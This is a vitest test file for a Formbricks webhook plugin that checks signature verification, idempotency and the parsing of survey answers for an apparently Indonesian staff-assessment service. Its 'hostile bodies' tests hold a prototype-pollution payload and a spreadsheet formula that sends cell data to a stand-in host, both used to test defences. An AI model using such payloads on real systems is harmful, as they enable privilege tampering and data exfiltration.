import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { isAppError, type AppError } from '../../src/errors.ts'
import { formbricksPlugin } from '../../plugins/formbricks/index.ts'
import { standardWebhookSignature } from '../../plugins/formbricks/standard-webhooks.ts'
import type { Delivery } from '../../plugins/plugin.ts'
import { failure } from '../support/failure.ts'

const FIXTURE = readFileSync(new URL('../fixtures/webhooks/formbricks-1.json', import.meta.url), 'utf8')
const SECRET = 'whsec_Zm9ybWJyaWNrcy10ZXN0LWtleS0zMi1ieXRlcyEhISE='
const ID = '887d8568a22c2ce8875cbfcb46926b7351332c808a4f66a4483a28cfe24595d4'
const TIMESTAMP = 1772590450
const SIGNATURE = 'v1,WM5AOuLn2PZ/2SJX6oYNDR0b4eRgqvZNNoUU9kNCTQM='
/** The fixture's timestamp is 2026-03-04T02:14:10Z; Formbricks delivered it 20 s later. */
const ARRIVED = new Date((TIMESTAMP + 20) * 1000)
const COMMENT = 'Mas Yudi selalu siap lembur saat persiapan pemilu, tetapi laporan kegiatannya sering terlambat.'

const delivery = (text = FIXTURE, headers: Record<string, string | undefined> = {}, receivedAt = ARRIVED): Delivery => {
  const all: Record<string, string> = {}
  const given = { 'content-type': 'application/json', 'webhook-id': ID, 'webhook-timestamp': String(TIMESTAMP), 'webhook-signature': SIGNATURE, ...headers }
  for (const [k, v] of Object.entries(given)) if (v !== undefined) all[k] = v
  return { headers: all, body: new TextEncoder().encode(text), text, url: 'https://penilaian.example.go.id/hooks/bnd_x', receivedAt }
}

/** A body signed with the test secret, as Formbricks would send it. */
const signed = async (text: string, timestamp = TIMESTAMP) =>
  delivery(text, { 'webhook-timestamp': String(timestamp), 'webhook-signature': await standardWebhookSignature(SECRET, ID, String(timestamp), new TextEncoder().encode(text)) })

/** The fixture with its `data.data` answers replaced by `answers` (raw JSON text). */
const withAnswers = (answers: string) => FIXTURE.replace(/"data":\{"nip".*?\},"variables"/, () => `"data":${answers},"variables"`)
const fields = (text: string) => formbricksPlugin.normalise(delivery(text)).fields


describe('formbricks plugin: Standard Webhooks signature', () => {
  it('authenticates the fixture with its test secret and signature headers', async () => {
    expect(await formbricksPlugin.authenticate(delivery(), SECRET)).toBe(true)
    expect(formbricksPlugin.secretKind).toBe('standard-webhooks')
  })

  it('refuses a wrong secret, an undecodable secret and an empty one', async () => {
    expect(await formbricksPlugin.authenticate(delivery(), 'whsec_' + btoa('another-key-of-32-bytes-length!!'))).toBe(false)
    expect(await formbricksPlugin.authenticate(delivery(), 'whsec_not base64!')).toBe(false)
    expect(await formbricksPlugin.authenticate(delivery(), '')).toBe(false)
  })

  it('accepts the secret without its whsec_ prefix, as the reference libraries do', async () => {
    expect(await formbricksPlugin.authenticate(delivery(), SECRET.slice(6))).toBe(true)
  })

  it.each(['webhook-id', 'webhook-timestamp', 'webhook-signature'])('refuses a delivery without the %s header', async (header) => {
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE, { [header]: undefined }), SECRET)).toBe(false)
  })

  it('refuses a body changed by one byte, and a signature moved to another message id', async () => {
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE.replace('"integritas":4', '"integritas":5')), SECRET)).toBe(false)
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE, { 'webhook-id': ID.replace('8', '9') }), SECRET)).toBe(false)
  })

  it('refuses a timestamp more than 5 minutes from the arrival, either way, and a non-numeric one', async () => {
    const at = (seconds: number) => new Date((TIMESTAMP + seconds) * 1000)
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE, {}, at(299)), SECRET)).toBe(true)
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE, {}, at(301)), SECRET)).toBe(false)
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE, {}, at(-301)), SECRET)).toBe(false)
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE, { 'webhook-timestamp': '1772590450.0' }), SECRET)).toBe(false)
  })

  it('accepts any one of several space-separated signatures (secret rotation) and ignores other versions', async () => {
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE, { 'webhook-signature': `v1,AAAA ${SIGNATURE}` }), SECRET)).toBe(true)
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE, { 'webhook-signature': SIGNATURE.replace('v1,', 'v1a,') }), SECRET)).toBe(false)
    expect(await formbricksPlugin.authenticate(delivery(FIXTURE, { 'webhook-signature': SIGNATURE.slice(3) }), SECRET)).toBe(false)
  })

  it("lets Formbricks' unsigned test ping through, since Formbricks shows the secret only after the ping succeeds", async () => {
    const ping = delivery('{"event":"testEndpoint"}', { 'webhook-signature': undefined })
    expect(await formbricksPlugin.authenticate(ping, SECRET)).toBe(true)
    expect(formbricksPlugin.normalise(ping)).toEqual({ fields: {}, partial: true })
  })

  it('refuses an unsigned body that only looks like the test ping', async () => {
    for (const text of ['{"event":"testEndpoint","data":{"id":"x","data":{"nip":"1"}}}', '{"event": "testEndpoint"}']) {
      expect(await formbricksPlugin.authenticate(delivery(text, { 'webhook-signature': undefined }), SECRET)).toBe(false)
    }
    expect(failure(() => fields('{"event":"testEndpoint","data":{"id":"x","data":{}}}')).errors?.[0]?.path).toBe('/event')
  })

  it('keeps the signature header out of stored receipts', () => {
    expect(formbricksPlugin.secretHeaders).toContain('webhook-signature')
  })
})

describe('formbricks plugin: idempotency', () => {
  it('keys a delivery by response id and event, so a retry is a duplicate but the next event is not', () => {
    expect(formbricksPlugin.idempotencyKey(delivery())).toBe('x3k9m2p7q1w5e8r4t6y0u2i9:responseFinished')
    expect(formbricksPlugin.idempotencyKey(delivery(FIXTURE.replace('responseFinished', 'responseUpdated')))).toBe('x3k9m2p7q1w5e8r4t6y0u2i9:responseUpdated')
  })

  it('has no key when the body is not JSON or has no response id', () => {
    expect(formbricksPlugin.idempotencyKey(delivery(FIXTURE.slice(0, 50)))).toBeUndefined()
    expect(formbricksPlugin.idempotencyKey(delivery('{"event":"responseFinished","data":{}}'))).toBeUndefined()
  })
})

describe('formbricks plugin: normalising the fixture', () => {
  it('gives the answers and hidden fields by id, with the types Formbricks sent', () => {
    const n = formbricksPlugin.normalise(delivery())
    expect(n.fields).toEqual({
      nip: '199204182019031004',
      peran: 'peer',
      integritas: 4,
      kerja_sama: 5,
      komunikasi: 4,
      orientasi_pelayanan: 3,
      kompetensi: ['Pelayanan publik', 'Kerja sama tim'],
      komentar: COMMENT,
    })
    expect(n.externalId).toBe('x3k9m2p7q1w5e8r4t6y0u2i9')
    expect(n.submittedAt).toBe('2026-03-04T02:14:09.877Z')
    expect(n.partial).toBeUndefined()
  })

  it('returns responseCreated and responseUpdated as partial, so they are stored but never scored', () => {
    for (const event of ['responseCreated', 'responseUpdated']) {
      expect(formbricksPlugin.normalise(delivery(FIXTURE.replace('responseFinished', event))).partial).toBe(true)
    }
    expect(formbricksPlugin.normalise(delivery(FIXTURE.replace('"finished":true', '"finished":false'))).partial).toBe(true)
  })

  it('refuses an event it does not know, naming it', () => {
    const e = failure(() => fields(FIXTURE.replace('responseFinished', 'responseDeleted')))
    expect(e.status).toBe(422)
    expect(e.errors?.[0]?.path).toBe('/event')
  })

  it('spreads a matrix answer into <id>.<row> and leaves unanswered (null) questions out', () => {
    const f = fields(withAnswers('{"nip":"199204182019031004","perilaku":{"Integritas":"Baik","Kerja sama":"Sangat baik"},"saran":null}'))
    expect(f['perilaku.Integritas']).toBe('Baik')
    expect(f['perilaku.Kerja sama']).toBe('Sangat baik')
    expect(f).not.toHaveProperty('saran')
  })

  it('refuses a question id that would produce the same field name as a matrix row', () => {
    const e = failure(() => fields(withAnswers('{"perilaku":{"integritas":4},"perilaku.integritas":5}')))
    expect(e.errors?.[0]?.path).toBe('/data/data/perilaku.integritas')
  })

  it('refuses a malformed response time and a missing response id', () => {
    expect(failure(() => fields(FIXTURE.replace('2026-03-04T02:14:09.877Z', '04/03/2026 09:14'))).errors?.[0]?.path).toBe('/data/updatedAt')
    expect(failure(() => fields(FIXTURE.replace('"id":"x3k9m2p7q1w5e8r4t6y0u2i9",', ''))).errors?.[0]?.path).toBe('/data/id')
  })
})

describe('formbricks plugin: hostile bodies', () => {
  it('refuses a truncated body with 400', () => {
    expect(failure(() => fields(FIXTURE.slice(0, FIXTURE.length - 10))).code).toBe('invalid-json')
  })

  it('refuses duplicate answer keys and prototype keys with 400 naming the key', () => {
    const dup = failure(() => fields(withAnswers('{"nip":"199204182019031004","integritas":4,"integritas":1}')))
    expect(dup.code).toBe('invalid-json')
    expect(dup.errors?.[0]?.path).toBe('/data/data/integritas')
    const proto = failure(() => fields(withAnswers('{"nip":"199204182019031004","__proto__":{"admin":true}}')))
    expect(proto.errors?.[0]?.path).toBe('/data/data/__proto__')
  })

  it('refuses a NIP sent as a JSON number, saying to send it as a string', () => {
    const e = failure(() => fields(FIXTURE.replace('"nip":"199204182019031004"', '"nip":199204182019031004')))
    expect(e.status).toBe(422)
    expect(e.errors).toEqual([{ path: '/data/data/nip', message: '199204182019031004 loses digits as a number; send it as the string "199204182019031004"' }])
  })

  it('refuses a score of 1e309, which no number can hold', () => {
    const e = failure(() => fields(FIXTURE.replace('"integritas":4', '"integritas":1e309')))
    expect(e.errors).toEqual([{ path: '/data/data/integritas', message: '1e309 is out of range for a number' }])
  })

  it('keeps scores such as "4,5", "lima" and arrays as sent, for the intake to check against the form', () => {
    const f = fields(withAnswers('{"integritas":"4,5","kerja_sama":"lima","komunikasi":[4,5]}'))
    expect(f).toEqual({ integritas: '4,5', kerja_sama: 'lima', komunikasi: [4, 5] })
  })

  it('refuses NUL characters and lone surrogates, naming the question', () => {
    expect(failure(() => fields(FIXTURE.replace('siap lembur', 'siap\\u0000lembur'))).errors?.[0]?.path).toBe('/data/data/komentar')
    expect(failure(() => fields(FIXTURE.replace('siap lembur', 'siap \\udc4d lembur'))).errors?.[0]?.path).toBe('/data/data/komentar')
  })

  it('keeps emoji, RTL marks and formula text exactly as sent', () => {
    const text = '=IMPORTXML("http://x.example/?q="&A1) 👍 \u202eabc مرحبا'
    expect(fields(FIXTURE.replace(JSON.stringify(COMMENT), JSON.stringify(text))).komentar).toBe(text)
  })

  it('reads the body the same whatever Content-Type a proxy put on it', () => {
    expect(formbricksPlugin.normalise(delivery(FIXTURE, { 'content-type': 'text/plain' })).fields.integritas).toBe(4)
  })

  it('authenticates a re-signed hostile body but still refuses its content', async () => {
    const forged = FIXTURE.replace('"nip":"199204182019031004"', '"nip":"199204182019031004","nip":"198503122010011001"')
    const d = await signed(forged)
    expect(await formbricksPlugin.authenticate(d, SECRET)).toBe(true)
    expect(failure(() => formbricksPlugin.normalise(d)).errors?.[0]?.path).toBe('/data/data/nip')
  })
})
